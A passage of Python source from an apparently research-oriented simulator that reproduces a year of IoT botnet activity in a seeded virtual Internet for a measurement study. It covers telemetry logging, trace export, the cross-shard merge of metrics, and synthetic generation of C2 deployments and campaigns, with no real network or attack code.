    Each track (main + one per shard) gets a bar spanning its active
    window within the run, plus its span count — a quick answer to "did
    the shards actually overlap, and with what skew?".
    """
    events = [e for e in trace.get("traceEvents", []) if e.get("ph") == "X"]
    labels = {e["tid"]: e["args"]["name"]
              for e in trace.get("traceEvents", []) if e.get("ph") == "M"}
    if not events:
        return ["(empty trace)"]
    total = max(e["ts"] + e["dur"] for e in events) or 1
    lines = [f"total {total / 1e3:.1f} ms, {len(events)} spans"]
    tracks: dict[int, list[dict]] = {}
    for event in events:
        tracks.setdefault(event["tid"], []).append(event)
    name_width = max(len(labels.get(tid, str(tid))) for tid in tracks)
    for tid in sorted(tracks):
        begin = min(e["ts"] for e in tracks[tid])
        end = max(e["ts"] + e["dur"] for e in tracks[tid])
        lo = min(width - 1, int(width * begin / total))
        hi = max(lo + 1, int(width * end / total + 0.5))
        bar = "." * lo + "#" * (hi - lo) + "." * (width - hi)
        label = labels.get(tid, str(tid)).ljust(name_width)
        lines.append(f"{label} |{bar}| {begin / 1e3:8.1f}-{end / 1e3:8.1f} ms"
                     f"  {len(tracks[tid])} spans")
    return lines


# -- manifest summary ---------------------------------------------------------


def describe_manifest(manifest: dict) -> list[str]:
    """A human summary of a run manifest (see :mod:`repro.obs.manifest`)."""
    study = manifest.get("study", {})
    run = manifest.get("run", {})
    cache = manifest.get("cache", {})
    lines = [
        f"seed {study.get('seed')}  workers {study.get('workers', 0)}  "
        f"sample_fraction {study.get('scale', {}).get('sample_fraction')}",
        f"wall {run.get('wall_seconds', 0.0):.3f}s  "
        f"cached {run.get('cached', False)}  "
        f"redispatches {run.get('redispatches', 0)}",
        f"code {str(study.get('code_fingerprint', ''))[:12]}  "
        f"study {str(study.get('study_fingerprint', ''))[:12]}",
    ]
    if study.get("faults"):
        lines.append(f"faults: {study['faults']}")
    if cache.get("enabled"):
        lines.append(f"cache: hit={cache.get('hit')} hits={cache.get('hits')}"
                     f" misses={cache.get('misses')}"
                     f" rejected={cache.get('rejected')}")
    for name, stat in manifest.get("phases", {}).items():
        lines.append(f"phase {name}: {stat['wall_seconds']:.3f}s wall, "
                     f"{stat['sim_seconds'] / 3600.0:.1f}h sim")
    for shard in manifest.get("shards", []):
        lines.append(f"shard[{shard['shard']}] attempt {shard['attempt']}: "
                     f"{shard['wall_seconds']:.3f}s, "
                     f"{shard.get('sizes', {}).get('D-Samples', '?')} samples")
    quarantined = manifest.get("quarantined", [])
    if quarantined:
        lines.append(f"quarantined: {len(quarantined)}")
        for record in quarantined[:5]:
            lines.append(f"  {record['sha256'][:12]} day {record['day']}: "
                         f"{record['reason']}")
        if len(quarantined) > 5:
            lines.append(f"  ... and {len(quarantined) - 5} more")
    if manifest.get("failed_shards"):
        lines.append(f"FAILED shards: {manifest['failed_shards']}")
    sizes = manifest.get("datasets", {})
    if sizes:
        lines.append("datasets: " + "  ".join(f"{k}={v}"
                                              for k, v in sizes.items()))
    return lines
