"""Structured event log: leveled JSON-lines records instead of prints.

Every record carries a wall timestamp, the simulation-clock instant when
a clock is bound, a level, the event name, and arbitrary keyword fields::

    events.emit("pipeline.day", day=12, collected=7)
    events.write_jsonl("telemetry/events.jsonl")

Events below the threshold level are dropped at emit time; the in-memory
buffer is capped so a year-long study cannot exhaust memory (overflow is
counted, not silently lost).
"""

from __future__ import annotations

import json
import time
from typing import Callable

__all__ = ["EventLog", "NullEventLog", "LEVELS"]

LEVELS: dict[str, int] = {"debug": 10, "info": 20, "warning": 30, "error": 40}


class EventLog:
    """Buffered structured log with level filtering and a JSONL sink."""

    enabled = True

    def __init__(self, level: str = "info",
                 sim_clock: Callable[[], float] | None = None,
                 max_events: int = 100_000):
        if level not in LEVELS:
            raise ValueError(f"unknown level: {level!r}")
        self.threshold = LEVELS[level]
        self.sim_clock = sim_clock
        self.max_events = max_events
        self.events: list[dict] = []
        self.dropped = 0

    def emit(self, event: str, level: str = "info", **fields) -> None:
        if LEVELS.get(level, 0) < self.threshold:
            return
        if len(self.events) >= self.max_events:
            self.dropped += 1
            return
        record: dict = {"ts": time.time(), "level": level, "event": event}
        if self.sim_clock is not None:
            record["sim"] = self.sim_clock()
        record.update(fields)
        self.events.append(record)

    def debug(self, event: str, **fields) -> None:
        self.emit(event, level="debug", **fields)

    def warning(self, event: str, **fields) -> None:
        self.emit(event, level="warning", **fields)

    def error(self, event: str, **fields) -> None:
        self.emit(event, level="error", **fields)

    def write_jsonl(self, path: str) -> int:
        """Write the buffer as JSON lines; returns the record count."""
        with open(path, "w", encoding="utf-8") as sink:
            for record in self.events:
                sink.write(json.dumps(record, default=str) + "\n")
        return len(self.events)

    # -- snapshot / restore (cross-process merge) ----------------------------

    def snapshot(self) -> dict:
        """Portable view of the log: copied records + overflow count."""
        return {"events": [dict(record) for record in self.events],
                "dropped": self.dropped}

    def absorb(self, snapshot: dict, **extra) -> int:
        """Append another log's snapshot, tagging each record with ``extra``
        plus its position (``seq``) in the source stream.

        Records keep their source order; the ``(shard, seq)`` pair the
        caller supplies/derives makes the merged stream deterministically
        sortable.  Overflow is accounted the same way as live emits.
        Returns the number of records absorbed.
        """
        absorbed = 0
        for seq, record in enumerate(snapshot.get("events", ())):
            if len(self.events) >= self.max_events:
                self.dropped += 1
                continue
            merged = dict(record)
            merged.update(extra)
            merged.setdefault("seq", seq)
            self.events.append(merged)
            absorbed += 1
        self.dropped += snapshot.get("dropped", 0)
        return absorbed


class NullEventLog(EventLog):
    """Disabled log: emit is a no-op, nothing is buffered."""

    enabled = False

    def __init__(self):
        super().__init__(max_events=0)

    def emit(self, event: str, level: str = "info", **fields) -> None:
        pass

    def absorb(self, snapshot: dict, **extra) -> int:
        return 0
