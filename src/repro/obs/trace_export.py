"""Chrome trace-event JSON export of a finished span trace.

Renders a :class:`~repro.obs.tracing.Tracer` tree as the Trace Event
Format consumed by Perfetto / ``chrome://tracing``: one complete-event
(``"ph": "X"``) per span with microsecond timestamps, plus thread-name
metadata records giving each shard its own track.  Spans re-rooted under
``shard[i]`` by :mod:`repro.obs.merge` land on track ``i + 1``; the
parent's own spans (study phases, probing) land on track 0 ("main").

Timestamps come from ``time.perf_counter()`` (CLOCK_MONOTONIC), which is
comparable across the processes of one run; the export normalizes them
so the earliest span starts at 0.
"""

from __future__ import annotations

import json
import re

__all__ = ["to_trace_events", "chrome_trace", "write_chrome_trace"]

_SHARD_ROOT_RE = re.compile(r"^shard\[(\d+)\]$")


def _shard_track(record: dict) -> tuple[int, str] | None:
    """(tid, label) when ``record`` is a shard root, else None.

    Shard roots are recognised anywhere in the tree — the merge grafts
    them *under* the parent's ``study.pipeline`` span — by their
    ``shard[i]`` name or an integer ``shard`` attribute.
    """
    match = _SHARD_ROOT_RE.match(record.get("name", ""))
    if match is not None:
        shard = int(match.group(1))
        return shard + 1, f"shard[{shard}]"
    shard = record.get("attributes", {}).get("shard")
    if isinstance(shard, int) and not isinstance(shard, bool):
        return shard + 1, f"shard[{shard}]"
    return None


def _walk(record: dict, tid: int, events: list[dict],
          tracks: dict[int, str]) -> None:
    track = _shard_track(record)
    if track is not None:
        tid = track[0]
        tracks.setdefault(*track)
    events.append({
        "name": record["name"],
        "ph": "X",
        "ts": record.get("wall_start", 0.0),  # normalized by caller
        "dur": max(0.0, record.get("wall_seconds", 0.0)),
        "pid": 0,
        "tid": tid,
        "args": {
            **record.get("attributes", {}),
            "sim_seconds": record.get("sim_seconds", 0.0),
        },
    })
    for child in record.get("children", ()):
        _walk(child, tid, events, tracks)


def to_trace_events(tree: list[dict]) -> list[dict]:
    """Flatten a ``Tracer.tree()`` into trace events (metadata first)."""
    events: list[dict] = []
    tracks: dict[int, str] = {0: "main"} if tree else {}
    for root in tree:
        _walk(root, 0, events, tracks)
    base = min((e["ts"] for e in events if e["ts"] > 0.0), default=0.0)
    for event in events:
        start = event["ts"]
        event["ts"] = int((start - base) * 1e6) if start > 0.0 else 0
        event["dur"] = int(event["dur"] * 1e6)
    metadata = [
        {"name": "thread_name", "ph": "M", "pid": 0, "tid": tid,
         "args": {"name": label}}
        for tid, label in sorted(tracks.items())
    ]
    return metadata + events


def chrome_trace(tracer_or_tree) -> dict:
    """The full trace-event JSON document for a tracer (or its tree)."""
    tree = (tracer_or_tree if isinstance(tracer_or_tree, list)
            else tracer_or_tree.tree())
    return {
        "traceEvents": to_trace_events(tree),
        "displayTimeUnit": "ms",
    }


def write_chrome_trace(path: str, tracer_or_tree) -> int:
    """Write ``trace.json``; returns the number of span events written."""
    document = chrome_trace(tracer_or_tree)
    with open(path, "w", encoding="utf-8") as sink:
        json.dump(document, sink, indent=1, default=str)
        sink.write("\n")
    return sum(1 for e in document["traceEvents"] if e["ph"] == "X")
