"""Deterministic cross-shard telemetry merge.

A parallel study runs one real :class:`~repro.obs.metrics.MetricsRegistry`
/ :class:`~repro.obs.tracing.Tracer` / :class:`~repro.obs.events.EventLog`
per worker process and ships portable snapshots (plain dicts) back in the
:class:`~repro.core.parallel.ShardResult`.  This module folds those
snapshots into the parent's instruments so a ``--workers N`` run produces
the same-shaped, complete artifacts as a serial one:

* **counters** are summed (they count shard-local work);
* **histograms** are added bucket-wise (same buckets by construction —
  workers run the same code);
* **span trees** are re-rooted under a synthetic ``shard[i]`` span and
  grafted into the parent trace, with the per-stage aggregate folded in;
* **events** are appended in stable ``(shard, seq)`` order, each record
  tagged with its source shard.

One wrinkle keeps the totals *equal* to the serial run's instead of
merely proportional: a few series measure **world-global** activity that
every worker re-observes identically — the feed pull happens *before*
the shard filter, so feed latency histograms, feed retry counters and
feed-level fault injections fire once per worker with identical values
(pure functions of ``(seed, feed, day)``).  Summing those would
over-count by the worker width; the merge takes them from exactly one
shard instead (:data:`WORLD_GLOBAL_SERIES`).
"""

from __future__ import annotations

from .metrics import MetricError
from .tracing import Span, Tracer

__all__ = [
    "WORLD_GLOBAL_SERIES",
    "is_world_global",
    "fold_counters",
    "fold_histograms",
    "fold_metrics",
    "graft_span_tree",
    "merge_shard_telemetry",
]

#: Series observed identically by every worker (feed pulls precede the
#: shard filter): ``(family name, required label subset or None)``.  A
#: ``None`` subset marks the whole family; a non-empty subset marks only
#: the series whose labels contain those pairs.
WORLD_GLOBAL_SERIES: tuple[tuple[str, tuple[tuple[str, str], ...] | None], ...] = (
    ("feed_latency_seconds", None),
    ("pipeline_retries", (("stage", "feed"),)),
    ("fault_injections", (("kind", "feed_outage"),)),
)


def is_world_global(name: str, labels: dict[str, str]) -> bool:
    """True when ``(name, labels)`` names a world-global series."""
    for family, subset in WORLD_GLOBAL_SERIES:
        if family != name:
            continue
        if subset is None:
            return True
        if all(labels.get(key) == value for key, value in subset):
            return True
    return False


def fold_counters(metrics, snapshot: dict, exclude: tuple = ()) -> None:
    """Add a worker's counter totals into a parent registry.

    Sums every counter series in ``snapshot`` (a
    ``MetricsRegistry.snapshot()`` dict); gauges and histograms are left
    to :func:`fold_histograms`.  ``exclude`` names counters whose
    per-shard values must not be summed — creation counters for records
    deduplicated *across* shards, which the merge re-counts from the
    merged result.
    """
    fold_metrics(metrics, snapshot, exclude=exclude, kinds=("counter",),
                 world_global=True)


def fold_histograms(metrics, snapshot: dict, world_global: bool = True) -> None:
    """Add a worker's histogram buckets into a parent registry bucket-wise."""
    fold_metrics(metrics, snapshot, kinds=("histogram",),
                 world_global=world_global)


def fold_metrics(metrics, snapshot: dict, exclude: tuple = (),
                 kinds: tuple[str, ...] = ("counter", "histogram"),
                 world_global: bool = False) -> None:
    """Fold one worker metrics snapshot into the parent registry.

    Counters sum; histograms add bucket-wise (sum/count included).
    Gauges are point-in-time readings with no cross-process meaning and
    are dropped.  ``world_global=False`` skips the series in
    :data:`WORLD_GLOBAL_SERIES` — pass True for exactly one shard so the
    merged totals equal a serial run's.
    """
    if not getattr(metrics, "enabled", True):
        return
    for name, family in snapshot.items():
        if family["type"] not in kinds or name in exclude:
            continue
        labelnames = tuple(family["labelnames"])
        if family["type"] == "counter":
            dest = metrics.counter(name, family["help"], labelnames)
            for series in family["series"]:
                if not world_global and is_world_global(name, series["labels"]):
                    continue
                if series["value"]:
                    dest.labels(**series["labels"]).inc(series["value"])
        elif family["type"] == "histogram":
            for series in family["series"]:
                if not world_global and is_world_global(name, series["labels"]):
                    continue
                _fold_histogram_series(metrics, name, family["help"],
                                       labelnames, series)


def _fold_histogram_series(metrics, name: str, help: str,
                           labelnames: tuple[str, ...], series: dict) -> None:
    value = series["value"]
    buckets_map: dict[str, int] = value["buckets"]
    uppers = [u for u in buckets_map if u != "+Inf"]
    dest = metrics.histogram(name, help, labelnames,
                             buckets=tuple(float(u) for u in uppers))
    child = dest.labels(**series["labels"])
    cumulative = list(buckets_map.values())
    if len(cumulative) != len(child.counts):
        raise MetricError(
            f"{name}: shard snapshot has {len(cumulative)} buckets, "
            f"parent histogram has {len(child.counts)}")
    previous = 0
    for index, running in enumerate(cumulative):
        child.counts[index] += running - previous
        previous = running
    child.sum += value["sum"]
    child.count += value["count"]


def graft_span_tree(tracer: Tracer, snapshot: dict, root_name: str,
                    parent: Span | None = None, wall_seconds: float = 0.0,
                    **attributes) -> Span | None:
    """Re-root a worker tracer snapshot under a new synthetic span.

    Builds a ``root_name`` span whose children are the worker's root
    spans, attaches it under ``parent`` (or as a trace root), and folds
    the worker's per-stage aggregate (and dropped-span count) into the
    parent tracer.  Returns the new root, or None for a disabled tracer.
    """
    if not getattr(tracer, "enabled", True):
        return None
    children = [Span.from_dict(record, tracer)
                for record in snapshot.get("tree", ())]
    root = Span(tracer, root_name, attributes)
    root.children = children
    root.wall_elapsed = wall_seconds or sum(
        child.wall_elapsed for child in children)
    root.sim_elapsed = sum(child.sim_elapsed for child in children)
    if children:
        root.wall_start = min(child.wall_start for child in children)
        root.sim_start = min(child.sim_start for child in children)
    tracer.adopt(root, parent)
    tracer.fold_aggregate(snapshot.get("aggregate", {}))
    tracer.fold_aggregate({root_name: {
        "count": 1, "wall_seconds": root.wall_elapsed,
        "sim_seconds": root.sim_elapsed}})
    tracer.dropped += snapshot.get("dropped", 0)
    return root


def merge_shard_telemetry(telemetry, shard_index: int, *,
                          metrics_snapshot: dict | None = None,
                          trace_snapshot: dict | None = None,
                          events_snapshot: dict | None = None,
                          parent_span: Span | None = None,
                          wall_seconds: float = 0.0, attempt: int = 0,
                          exclude_counters: tuple = (),
                          world_global: bool = False) -> None:
    """Fold one shard's telemetry snapshots into the parent bundle.

    Call once per shard in ascending shard order with
    ``world_global=True`` for exactly one of them (conventionally the
    first to report) — see :func:`fold_metrics`.
    """
    if metrics_snapshot is not None:
        fold_metrics(telemetry.metrics, metrics_snapshot,
                     exclude=exclude_counters, world_global=world_global)
    if trace_snapshot is not None:
        graft_span_tree(telemetry.tracer, trace_snapshot,
                        f"shard[{shard_index}]", parent=parent_span,
                        wall_seconds=wall_seconds, shard=shard_index,
                        attempt=attempt)
    if events_snapshot is not None:
        telemetry.events.absorb(events_snapshot, shard=shard_index)
