"""WorldGenerator: one year of IoT malware activity, calibrated to MalNet.

Builds the closed world the pipeline measures: the virtual Internet with
its AS-structured address space, C2 servers with lifespans and schedules,
malware campaigns whose binaries flow into the VirusTotal/MalwareBazaar
feeds, downloader servers, threat-intel knowledge, DDoS attack plans, and
the probe-able subnets of the D-PC2 experiment.

Everything is driven by one seed; generating the same world twice yields
byte-identical binaries and identical timelines.
"""

from __future__ import annotations

import random
from dataclasses import dataclass

from ..binary.builder import build_sample
from ..binary.config import BotConfig
from ..botnet.c2server import C2Server, DownloaderHttp, ResponsivenessModel
from ..botnet.exploits import KEY_TO_INDEX, LOADER_WEIGHTS, POPULARITY_WEIGHTS
from ..botnet.families import (
    ATTACK_FAMILIES,
    dga_domains,
    dga_schedule_seed,
    get_family,
)
from ..defense import DnsDefense
from ..determinism import stable_unit
from ..botnet.protocols.base import AttackCommand
from ..feeds.malwarebazaar import MalwareBazaarService
from ..feeds.virustotal import VirusTotalService
from ..intel.asdb import AsDatabase, TOP_C2_ASES
from ..intel.vendors import IocIntel
from ..netsim.addresses import AddressAllocator, Subnet, int_to_ip
from ..netsim.internet import (
    Listener,
    SECONDS_PER_DAY,
    STUDY_EPOCH,
    VirtualInternet,
)
from ..netsim.packet import Protocol
from . import calibration as cal
from .model import (
    C2Deployment,
    Campaign,
    GroundTruth,
    PlannedAttack,
    PlannedSample,
)

#: ports C2 operators actually use (seen throughout the IoT ecosystem)
C2_PORTS = (23, 48101, 666, 1312, 3074, 81, 6969, 1791, 9506, 42516)

ANALYSIS_HOUR_OFFSET = 12 * 3600.0  # daily analysis batch starts at 12:00


@dataclass
class World:
    """The generated closed world handed to the pipeline."""

    rng: random.Random
    internet: VirtualInternet
    asdb: AsDatabase
    vt: VirusTotalService
    bazaar: MalwareBazaarService
    truth: GroundTruth
    scale: cal.StudyScale
    probe_start: float = 0.0
    #: the generator seed, kept so the sharded runner can regenerate this
    #: exact world in worker processes (None for hand-assembled worlds)
    seed: int | None = None

    @property
    def epoch(self) -> float:
        return STUDY_EPOCH


class WorldGenerator:
    """Deterministic builder of a :class:`World`."""

    def __init__(self, seed: int = cal.DEFAULT_SEED,
                 scale: cal.StudyScale | None = None):
        self.seed = seed
        self.scale = scale or cal.FULL_SCALE
        self.rng = random.Random(seed)
        self.internet = VirtualInternet(random.Random(seed + 1))
        self.internet.backbone_limit = self.scale.backbone_limit
        self.asdb = AsDatabase(random.Random(seed + 2))
        self.vt = VirusTotalService(random.Random(seed + 3))
        self.bazaar = MalwareBazaarService(random.Random(seed + 4))
        self.allocator = AddressAllocator(random.Random(seed + 5))
        self.truth = GroundTruth()
        self._sample_budget = self.scale.total_samples
        self._dedicated_downloaders: list[int] = []
        self._downloader_pool: list[int] = []
        self._bootstrap_peers: list[str] = []
        self._binary_seed = 0
        # every Table 4 vulnerability must be carried by a few samples
        # (the paper observed all rows); queue each index twice so losing
        # one carrier to activation failure still leaves coverage
        self._pending_vulns = [
            index for index in KEY_TO_INDEX.values() for _ in range(2)
        ]
        self.rng.shuffle(self._pending_vulns)

    # -- entry point ---------------------------------------------------------

    def generate(self) -> World:
        if self.scale.dga:
            # the defender watches the registrar feed, so it must be in
            # place before the first domain registration
            self.internet.resolver.defense = DnsDefense(seed=self.seed)
        self._create_downloader_only_hosts()
        self._create_p2p_bootstrap()
        self._plan_attack_campaigns()
        self._plan_regular_campaigns()
        self._submit_chaff()
        self._register_intel()
        world = World(
            rng=self.rng, internet=self.internet, asdb=self.asdb,
            vt=self.vt, bazaar=self.bazaar, truth=self.truth,
            scale=self.scale, seed=self.seed,
        )
        self._plan_probing_world(world)
        return world

    # -- helpers ------------------------------------------------------------------

    def _weighted_choice(self, pairs) -> object:
        total = sum(weight for _value, weight in pairs)
        pick = self.rng.random() * total
        cumulative = 0.0
        for value, weight in pairs:
            cumulative += weight
            if pick <= cumulative:
                return value
        return pairs[-1][0]

    def _week_volume_weights(self) -> list[tuple[int, float]]:
        """Per-week sample volume (Figure 1: more since Jan 2022, peak wk 28)."""
        weights = []
        for week in range(1, cal.ACTIVE_WEEKS + 1):
            if week == 28:
                weight = 3.5
            elif week >= 21:
                weight = 1.6
            elif week >= 12:
                weight = 0.9
            else:
                weight = 0.6
            weights.append((week, weight))
        return weights

    def _pick_c2_asn(self, week: int) -> int:
        if self.rng.random() < cal.TOP10_AS_SHARE:
            weights = list(cal.TOP10_AS_WEIGHTS)
            if week >= 28:  # the late-study surge of AS-44812 / AS-139884
                weights = [
                    (asn, w * (7.0 if asn in (44812, 139884) else 1.0))
                    for asn, w in weights
                ]
            return self._weighted_choice(weights)
        tail = [asn for asn in self.asdb.records
                if asn not in {r.asn for r in TOP_C2_ASES}]
        return self.rng.choice(tail)

    def _bucket_draw(self, buckets) -> float:
        bucket = self._weighted_choice(
            [((low, high), p) for low, high, p in buckets]
        )
        low, high = bucket
        return self.rng.uniform(low, high)

    def _lifetime_days(self) -> float:
        return self._bucket_draw(cal.LIFETIME_BUCKETS)

    def _spread_days(self) -> float:
        return self._bucket_draw(cal.SPREAD_BUCKETS)

    def _make_domain(self) -> str:
        words = ("cnc", "net", "boat", "scan", "sora", "owari", "kill",
                 "dark", "pain", "okiru")
        tlds = ("xyz", "cc", "pw", "top", "ru", "net")
        return (f"{self.rng.choice(words)}{self.rng.randrange(100)}."
                f"{self.rng.choice(words)}.{self.rng.choice(tlds)}")

    def _next_binary_rng(self) -> random.Random:
        self._binary_seed += 1
        return random.Random((self.seed << 20) ^ self._binary_seed)

    # -- infrastructure ------------------------------------------------------------

    def _create_downloader_only_hosts(self) -> None:
        """The 12 downloader addresses that are not C2s (section 3.1)."""
        for _ in range(cal.DOWNLOADER_NOT_C2):
            asn = self._pick_c2_asn(week=1)
            address = self.asdb.allocate_address(asn, self.allocator, self.rng)
            host = self.internet.add_host(address, name="downloader")
            host.bind(Listener(port=cal.DOWNLOADER_PORT, protocol=Protocol.TCP,
                               service=DownloaderHttp()))
            self._dedicated_downloaders.append(address)
            self.truth.downloader_only_addresses.append(address)

    def _create_p2p_bootstrap(self) -> None:
        """Stable DHT bootstrap nodes for Mozi/Hajime configs."""
        for _ in range(3):
            asn = self.rng.choice(list(self.asdb.records))
            address = self.asdb.allocate_address(asn, self.allocator, self.rng)
            self.internet.add_host(address, name="dht-bootstrap")
            self._bootstrap_peers.append(f"{int_to_ip(address)}:6881")

    # -- C2 deployment ----------------------------------------------------------------

    def _deploy_c2(
        self,
        family: str,
        variant: str,
        week: int,
        lifetime_days: float | None = None,
        asn: int | None = None,
        is_attack: bool = False,
    ) -> C2Deployment:
        asn = asn if asn is not None else self._pick_c2_asn(week)
        address = self.asdb.allocate_address(asn, self.allocator, self.rng)
        port = self.rng.choice(C2_PORTS)
        online_from = cal.week_start(week) + self.rng.uniform(0, 6.5) * SECONDS_PER_DAY
        days = lifetime_days if lifetime_days is not None else self._lifetime_days()
        online_until = online_from + days * SECONDS_PER_DAY
        domain = None
        if self.rng.random() < cal.DNS_C2_FRACTION:
            domain = self._make_domain()
            self.internet.resolver.register(domain, address, since=online_from)
            self.internet.resolver.register(domain, None, since=online_until)
        host = self.internet.add_host(address, name=f"c2-{family}")
        host.set_lifetime(online_from, online_until)
        server = C2Server(get_family(family), random.Random(self.rng.getrandbits(32)))
        host.bind(Listener(port=port, protocol=Protocol.TCP, service=server))
        # most C2 hosts co-host the loader-distribution service on port 80
        host.bind(Listener(port=cal.DOWNLOADER_PORT, protocol=Protocol.TCP,
                           service=DownloaderHttp()))
        if domain is None:
            obscurity = self.rng.uniform(0.0, cal.IP_OBSCURITY_MAX)
            same_day = cal.SAME_DAY_PUBLICITY_IP
        else:
            obscurity = (self.rng.uniform(0.0, cal.IP_OBSCURITY_MAX)
                         + cal.DNS_OBSCURITY_SHIFT)
            same_day = cal.SAME_DAY_PUBLICITY_DNS
        delay = (0.0 if self.rng.random() < same_day
                 else self.rng.expovariate(1.0 / cal.PUBLICITY_LAG_MEAN_DAYS))
        deployment = C2Deployment(
            address=address, port=port, family=family, variant=variant,
            asn=asn, domain=domain, online_from=online_from,
            online_until=online_until, server=server, obscurity=obscurity,
            publicity_delay_days=delay, is_attack_c2=is_attack,
        )
        self.truth.deployments.append(deployment)
        return deployment

    def _convert_to_dga(self, deployment: C2Deployment) -> None:
        """Rework a fresh deployment into a domain-rotating C2.

        The operator stands the *same* C2 server up on a chain of
        replacement addresses ("generations") as each one is taken down,
        and each day registers the registrar-won subset of that day's
        generated candidates pointing at whichever generation is alive.
        Surviving an IP takedown by rotating names is exactly the churn
        the defender loop then has to chase.
        """
        family = deployment.family
        deployment.dga = True
        deployment.dga_seed = dga_schedule_seed(
            self.seed, family, deployment.address
        )
        generations = [
            (deployment.address, deployment.online_from, deployment.online_until)
        ]
        for index in range(self.rng.randint(*cal.DGA_EXTRA_GENERATIONS)):
            address = self.asdb.allocate_address(
                deployment.asn, self.allocator, self.rng
            )
            start = generations[-1][2]
            end = start + self.rng.uniform(*cal.DGA_GENERATION_DAYS) * SECONDS_PER_DAY
            host = self.internet.add_host(
                address, name=f"c2-{family}-gen{index + 1}"
            )
            host.set_lifetime(start, end)
            host.bind(Listener(port=deployment.port, protocol=Protocol.TCP,
                               service=deployment.server))
            host.bind(Listener(port=cal.DOWNLOADER_PORT, protocol=Protocol.TCP,
                               service=DownloaderHttp()))
            generations.append((address, start, end))
        deployment.generations = generations
        deployment.online_until = generations[-1][2]
        first_day = int((deployment.online_from - STUDY_EPOCH) // SECONDS_PER_DAY)
        last_day = int((deployment.online_until - STUDY_EPOCH) // SECONDS_PER_DAY)
        for day in range(first_day, last_day + 1):
            day_start = STUDY_EPOCH + day * SECONDS_PER_DAY
            day_end = day_start + SECONDS_PER_DAY
            noon = day_start + ANALYSIS_HOUR_OFFSET
            live = [g for g in generations if g[1] < day_end and day_start < g[2]]
            if not live:
                continue
            # prefer the generation serving at analysis time; else the
            # first one alive at any point of the day
            active = next(
                (g for g in live if g[1] <= noon < g[2]), live[0]
            )
            candidates = dga_domains(deployment.dga_seed, family, day)
            # the registrar race is a pure function of (world seed, name)
            # so every shard derives the identical won subset
            won = [
                name for name in candidates
                if stable_unit("dga-registrar", self.seed, name)
                < cal.DGA_REGISTER_RATE
            ]
            if not won:
                # a day with zero names would orphan the whole botnet;
                # operators fall back to hand-registering the first
                won = candidates[:1]
            for domain in won[: cal.DGA_REGISTERED_PER_DAY]:
                since = max(day_start, active[1], deployment.online_from)
                until = min(day_end, active[2])
                if until <= since:
                    continue
                self.internet.resolver.register(domain, active[0], since=since)
                self.internet.resolver.register(domain, None, since=until)
                deployment.dga_domains.append((day, domain))
                if deployment.server is not None:
                    deployment.server.register_domain_window(domain, since, until)

    # -- campaign planning ----------------------------------------------------------------

    def _arsenal(self) -> tuple[list[int], str, str]:
        """(exploit ids, loader name, downloader) for an armed sample."""
        weighted = [(KEY_TO_INDEX[key], weight)
                    for key, weight in POPULARITY_WEIGHTS.items()]
        count = self._weighted_choice(((1, 0.2), (2, 0.25), (3, 0.25),
                                       (4, 0.2), (5, 0.1)))
        ids: list[int] = []
        if self._pending_vulns:
            ids.append(self._pending_vulns.pop())
        while len(ids) < count:
            pick = self._weighted_choice(weighted)
            if pick not in ids:
                ids.append(pick)
        loader = self._weighted_choice(list(LOADER_WEIGHTS.items()))
        return sorted(ids), loader, ""

    def _build_campaign_samples(
        self, campaign: Campaign, size: int, armed_bias: float
    ) -> None:
        deployment = campaign.c2
        family = get_family(campaign.family)
        for index in range(size):
            if self._sample_budget <= 0:
                return
            armed = (not family.is_p2p) and self.rng.random() < armed_bias
            exploit_ids: list[int] = []
            loader = ""
            downloader = ""
            if armed:
                exploit_ids, loader, _ = self._arsenal()
                if deployment is not None:
                    downloader = self._pick_downloader(deployment)
            dga = deployment is not None and deployment.dga
            config = BotConfig(
                family=campaign.family,
                # DGA binaries carry the schedule seed instead of a host
                c2_host="" if dga else (deployment.endpoint if deployment else ""),
                c2_port=deployment.port if deployment else 0,
                scan_ports=[23, 2323] if not family.is_p2p else [],
                exploit_ids=exploit_ids,
                loader_name=loader,
                downloader=downloader,
                attacks=list(family.attack_methods),
                variant=campaign.variant,
                p2p_bootstrap=(
                    self.rng.sample(self._bootstrap_peers, 2)
                    if family.is_p2p else []
                ),
                dga_seed=deployment.dga_seed if dga else 0,
            )
            arch = ("arm" if self.rng.random() < self.scale.arm_fraction
                    else "mips")
            sample = build_sample(config, self._next_binary_rng(),
                                  variant=campaign.variant, arch=arch)
            if deployment is not None:
                if campaign.spread_days is None:
                    if deployment.is_attack_c2:
                        campaign.spread_days = (
                            deployment.lifetime_days * self.rng.uniform(0.6, 0.9)
                        )
                    else:
                        campaign.spread_days = self._spread_days()
                if index == 0:
                    offset_days = self.rng.uniform(0.0, 0.2)
                elif deployment.is_attack_c2:
                    # attack campaigns keep referring to the C2 late into
                    # its (long) life — their observed lifespan ~10 days
                    offset_days = campaign.spread_days * self.rng.uniform(0.6, 1.0)
                else:
                    offset_days = self.rng.uniform(0.0, campaign.spread_days)
                submit = deployment.online_from + offset_days * SECONDS_PER_DAY
            else:
                week = self._weighted_choice(self._week_volume_weights())
                submit = (cal.week_start(week)
                          + self.rng.uniform(0, 7) * SECONDS_PER_DAY)
            planned = PlannedSample(
                sample=sample, submit_time=submit, c2=deployment,
                submitted_to_vt=True,
                submitted_to_bazaar=self.rng.random() < 0.5,
            )
            campaign.samples.append(planned)
            self.vt.submit_sample(sample, submit)
            if planned.submitted_to_bazaar:
                self.bazaar.submit_sample(sample, submit)
            self._sample_budget -= 1

    def _pick_downloader(self, deployment: C2Deployment) -> str:
        """Downloader address for an armed sample.

        Authors reuse a small set of loader-distribution servers: most are
        C2 hosts (section 3.1 finds 47 distinct downloaders, only 12 not
        C2s), so armed campaigns share a bounded pool of C2-colocated
        downloaders plus the dedicated ones.
        """
        pool_cap = cal.DOWNLOADER_TOTAL - cal.DOWNLOADER_NOT_C2
        pick = self.rng.random()
        if pick < 0.2:
            address = self.rng.choice(self._dedicated_downloaders)
        elif self._downloader_pool and (pick < 0.7
                                        or len(self._downloader_pool) >= pool_cap):
            address = self.rng.choice(self._downloader_pool)
        else:
            address = deployment.address
            if address not in self._downloader_pool:
                self._downloader_pool.append(address)
        return f"{int_to_ip(address)}:{cal.DOWNLOADER_PORT}"

    def _plan_regular_campaigns(self) -> None:
        while self._sample_budget > 0:
            family_name = self._weighted_choice(list(cal.FAMILY_MIX))
            family = get_family(family_name)
            variant = self.rng.choice(family.variants)
            size = self._weighted_choice(list(cal.CAMPAIGN_SIZES))
            week = self._weighted_choice(self._week_volume_weights())
            deployment = None
            if not family.is_p2p:
                deployment = self._deploy_c2(family_name, variant, week)
                if (self.scale.dga and family.dga is not None
                        and self.rng.random() < cal.DGA_CAMPAIGN_FRACTION):
                    self._convert_to_dga(deployment)
